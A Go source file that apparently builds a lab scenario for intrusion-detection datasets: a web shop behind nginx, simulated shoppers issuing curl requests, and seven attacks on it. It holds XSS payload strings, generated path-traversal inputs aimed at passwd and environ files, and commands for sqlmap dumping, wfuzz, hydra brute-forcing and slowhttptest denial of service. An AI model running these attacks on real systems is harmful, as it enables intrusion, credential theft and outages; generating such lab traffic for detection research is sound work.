package lab

import (
	"fmt"
	"strings"
)

// appPort is where AntiNex' applications listened.
const appPort = 8010

// Web is a web application behind nginx on port 8010, users who shop there,
// and seven attacks on it. The application is installed below cache (see
// [InstallApp]). The pages of react and vue are files that nginx serves, which
// ask a server for all else; those of the others come from the server.
//
// AntiNex scanned with OWASP ZAP. Of ZAP only the core can be had from a
// package registry (org.zaproxy:zap at Maven Central), and version 2.15.0 of it
// serves no API and has no scan rules: both are add-ons, of which two are
// mandatory at start. wapiti is the scanner that crawls and attacks instead.
func Web(app, cache string) (Scenario, error) {
	f, err := frameworkOf(app)
	if err != nil {
		return Scenario{}, err
	}
	server, err := f.server(cache)
	if err != nil {
		return Scenario{}, err
	}
	front := nginx()
	front.Ports = []int{appPort}
	front.Files = map[string]string{"nginx.conf": nginxConf(f.site(cache), appPort)}
	return Scenario{
		Name:    "web-" + app,
		Servers: []Server{server, front, dnsmasq("shop.lab.test")},
		Attacks: f.attacks(),
		Habits:  f.habits(),
		Clients: 3,
	}, nil
}

// server is the application's, on a socket that nginx passes requests to.
func (f *framework) server(cache string) (Server, error) {
	s := Server{Role: "web", Socket: "app.sock", Files: map[string]string{
		"root/texts/terms.txt":   "All sales are final.\n",
		"root/etc/passwd":        "root:x:0:0:root:/root:/bin/sh\nshop:x:1000:1000:made up:/home/shop:/bin/sh\n",
		"root/etc/hostname":      "shop\n",
		"root/proc/self/environ": "SECRET=made-up\x00",
		"xss":                    "<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n\"><svg/onload=alert(1)>\njavascript:alert(1)\n'-alert(1)-'\n<body onload=alert(1)>\n",
		"traversal":              traversals(),
	}}
	if f.python == "" {
		s.Tool = Tool{"java", "default-jre-headless"}
		s.Command = append(words("java -XX:-UsePerfData -Xmx128m -Djava.io.tmpdir={run} -jar"), f.product(cache))
		s.Command = append(s.Command, words("--shop.home={run} --spring.main.banner-mode=off")...)
		return s, nil
	}
	for to, from := range map[string]string{"app.py": f.python, "shop.py": "shop.py"} {
		text, err := apps.ReadFile("apps/" + from)
		if err != nil {
			return Server{}, err
		}
		s.Files[to] = string(text)
	}
	s.Tool = Tool{Program: f.gunicorn(cache)}
	s.Command = append([]string{f.gunicorn(cache)},
		words("--workers 1 --threads 4 --worker-tmp-dir {run} --bind unix:{run}/app.sock --chdir {run} app:application")...)
	return s, nil
}

// site is what nginx does on the port.
func (f *framework) site(cache string) string {
	const pass = "location / { proxy_pass http://unix:{run}/app.sock; proxy_set_header Host $http_host; }"
	if !f.singlePage() {
		return pass
	}
	return fmt.Sprintf(`root "%s";
    types { text/html html; text/javascript js; }
    location = / { try_files /index.html =404; }
    location /assets/ { }
    %s`, f.product(cache), pass)
}

// traversals are names that lead out of a folder.
func traversals() string {
	var b strings.Builder
	for depth := range 8 {
		for _, file := range []string{"etc/passwd", "etc/hostname", "proc/self/environ"} {
			for _, up := range []string{"../", "..%2f", "%2e%2e/"} {
				fmt.Fprintf(&b, "%s%s\n", strings.Repeat(up, depth+1), file)
			}
		}
	}
	return b.String()
}

func (f *framework) attacks() []Attack {
	site := fmt.Sprintf("http://{target}:%d", appPort)
	start := ""
	if f.singlePage() { // wapiti finds no links in it; a browser shows what it asks for
		start = " -s " + site + "/search?q=lamp -s " + site + "/hello?name=me -s " + site + "/file?name=terms.txt"
	}
	wfuzz := Tool{"wfuzz", "wfuzz"}
	on := func(label, category string, tool Tool, clean bool, command string) Attack {
		return Attack{Label: label, Category: category, Tool: tool, Target: "web", Protos: []string{"tcp"}, Port: appPort, Command: words(command), Clean: clean}
	}
	return []Attack{
		on("web_scan", "web", Tool{"wapiti", "wapiti"}, true, "wapiti -u "+site+"/"+start+" --flush-session -m sql,xss,file,exec,backup --no-bugreport -f json -o {run}/wapiti.json --store-session {run}/wapiti"),
		on("web_sqli", "web", Tool{"sqlmap", "sqlmap"}, true, "sqlmap -u "+site+"/search?q=lamp --batch --flush-session --level 3 --dbms "+f.dbms+" --threads 4 --disable-coloring --output-dir={run}/sqlmap --dump"),
		on("web_xss", "web", wfuzz, true, "wfuzz -t 4 -w {run}/xss "+site+"/hello?name=FUZZ"),
		on("web_traversal", "web", wfuzz, true, "wfuzz -t 4 -w {run}/traversal "+site+"/file?name=FUZZ"),
		on("web_dirbust", "web", wfuzz, true, "wfuzz -t 10 --hc 404 -w {run}/passwords "+site+"/FUZZ"),
		on("brute_http_form", "bruteforce", hydra, false, fmt.Sprintf("hydra -I -t 4 -l admin -P {run}/passwords -s %d {target} http-post-form /login:user=^USER^&password=^PASS^:wrong", appPort)),
		on("dos_slow_http", "dos", Tool{"slowhttptest", "slowhttptest"}, false, "slowhttptest -B -c 60 -r 30 -i 2 -l {seconds} -u "+site+"/comments"),
	}
}

func (f *framework) habits() []Habit {
	const site = "http://shop.lab.test:8010"
	get := "curl -sS -o /dev/null -m 5 " + site
	front := get + "/"
	if f.singlePage() { // a browser fetches the script, and the script the items
		front += " -o /dev/null " + site + "/assets/shop.js -o /dev/null " + site + "/items"
	}
	return []Habit{
		{Name: "front page", Weight: 20, Tool: curl, Command: words(front)},
		{Name: "item", Weight: 30, Tool: curl, Command: words(get + "/items/{n}")},
		{Name: "search", Weight: 15, Tool: curl, Command: words(get + "/search?q=a{n}")},
		{Name: "terms", Weight: 5, Tool: curl, Command: words(get + "/file?name=terms.txt")},
		{Name: "sold out", Weight: 4, Tool: curl, Command: words(get + "/items/9{n}")},
		{Name: "login", Weight: 8, Tool: curl, Command: append(words(get+"/login -L -c /dev/null --data"), "user=customer&password=lab")},
		{Name: "mistyped login", Weight: 2, Tool: curl, Command: append(words(get+"/login --data"), "user=customer&password=lab{n}")},
		{Name: "comment", Weight: 6, Tool: curl, Command: append(words(get+"/comments -L --data-urlencode"), "text=It is comment {n}, and I like it.")},
		{Name: "name", Weight: 10, Tool: dig, Command: words("dig +time=2 +tries=1 host{n}.lab.test")},
	}
}
